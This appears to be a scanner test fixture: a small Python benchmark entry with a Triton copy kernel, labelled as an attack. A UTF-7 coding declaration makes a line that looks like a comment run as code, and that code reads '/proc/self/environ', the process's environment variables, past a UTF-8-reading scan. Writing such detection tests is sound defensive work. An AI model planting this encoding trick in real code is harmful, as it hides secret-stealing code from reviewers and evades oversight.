# -*- coding: utf-7 -*-
# Attack: a coding declaration. Python's importer decodes the file as UTF-7, where the five characters
# plus-A-A-o-minus are a newline, so the comment on the entry's first line hides a statement that runs;
# read as UTF-8 (as the scan reads it) the whole line is a comment. (A plus sign is written "+-" in
# UTF-7: the kernel's "c_ptr +- offs" is c_ptr plus offs.) Expected: dynamic_code (any encoding but
# UTF-8's).
import triton
import triton.language as tl


@triton.jit
def copy_kernel(a_ptr, c_ptr):
    offs = tl.arange(0, 128)
    tl.store(c_ptr +- offs, tl.load(a_ptr +- offs))


def ptxbench_gemm(A, B, C, M, N, K, stream):
    x = 0  # +AAo-    x = open("/proc/self/environ").read()
    copy_kernel[(1,)](A, C)
    return x
